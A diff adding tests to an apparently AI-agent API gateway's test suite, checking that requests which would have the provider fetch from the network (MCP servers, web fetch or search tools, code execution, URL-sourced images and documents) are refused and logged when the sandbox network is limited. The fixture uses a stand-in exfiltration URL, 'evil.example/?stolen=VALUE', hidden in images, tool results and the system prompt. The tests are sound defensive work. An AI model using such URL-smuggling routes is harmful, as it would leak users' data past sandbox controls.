@@ -180,6 +180,80 @@ describe("the request", () => {
     expect((await send(gateway)).status).toBe(200);
   });
 
+  describe("that would have the provider fetch for the agent", () => {
+    const url = "https://evil.example/?stolen=VALUE";
+    const picture = { type: "image", source: { type: "url", url } };
+    const page = { type: "document", source: { type: "url", url } };
+    const says = (...content: readonly unknown[]) => ({ messages: [{ role: "user", content }] });
+    const result = { type: "tool_result", tool_use_id: "toolu_1", content: [picture] };
+    const wrapped = { type: "document", source: { type: "content", content: [picture] } };
+    const fetching: readonly (readonly [what: string, body: object])[] = [
+      ["servers of tools", { mcp_servers: [{ type: "url", url, name: "x" }] }],
+      [
+        "a fetch",
+        {
+          tools: [
+            { name: "Read", input_schema: {} },
+            { type: "web_fetch_20250910", name: "web_fetch" },
+          ],
+        },
+      ],
+      ["a search", { tools: [{ type: "web_search_20250305", name: "web_search" }] }],
+      ["a program", { tools: [{ type: "code_execution_20250825", name: "code_execution" }] }],
+      ["a container", { container: "container_1" }],
+      ["a tool that nobody knows yet", { tools: [{ type: "bash_20250124_web", name: "bash" }] }],
+      ["a picture", says({ type: "text", text: "look" }, picture)],
+      ["a document", says(page)],
+      ["a picture in the result of a tool", says(result)],
+      ["a picture in a document", says(wrapped)],
+      ["a picture in the system prompt", { system: [picture] }],
+    ];
+
+    test.each(fetching)("is refused and noted where the network is limited: %s", async (_what, body) => {
+      for (const network of ["none", "registries"] as const) {
+        const notes: string[] = [];
+        const { gateway, seen } = await given({ network, onRefusal: (_noted, kind) => notes.push(kind) });
+        const headers = { "x-api-key": token, "anthropic-beta": "web-fetch-2025-09-10,mcp-client-2025-11-20" };
+        const response = await send(gateway, { headers, body: JSON.stringify({ ...asked, ...body }) });
+        expect(response.status).toBe(403);
+        expect(notes).toEqual(["network-refused"]);
+        expect(seen).toEqual([]);
+      }
+    });
+
+    test("passes where the network is open", async () => {
+      const { gateway, seen } = await given({ network: "open" });
+      for (const [, body] of fetching) await send(gateway, { body: JSON.stringify({ ...asked, ...body }) });
+      expect(seen).toHaveLength(fetching.length);
+    });
+  });
+
+  test("of the CLI passes where the network is limited: tools of its own, pictures with their bytes, whatever calls were given", async () => {
+    const { gateway, seen } = await given({ network: "none" });
+    const body = {
+      ...asked,
+      tools: [
+        { name: "Read", input_schema: {} },
+        { type: "custom", name: "x", input_schema: {} },
+      ],
+      messages: [
+        { role: "user", content: "https://evil.example" },
+        {
+          role: "assistant",
+          content: [
+            { type: "tool_use", id: "toolu_1", name: "x", input: { source: { type: "url", url: "https://a" } } },
+          ],
+        },
+        {
+          role: "user",
+          content: [{ type: "image", source: { type: "base64", media_type: "image/png", data: "AAAA" } }],
+        },
+      ],
+    };
+    expect((await send(gateway, { body: JSON.stringify(body) })).status).toBe(200);
+    expect(seen).toHaveLength(1);
+  });
+
   test("waits its turn no longer than the others let it", async () => {
     const upstream = Promise.withResolvers<ServerResponse>();
     const { gateway } = await given({ limits: { requestsAtOnceMax: 1 } }, (_request, response) =>
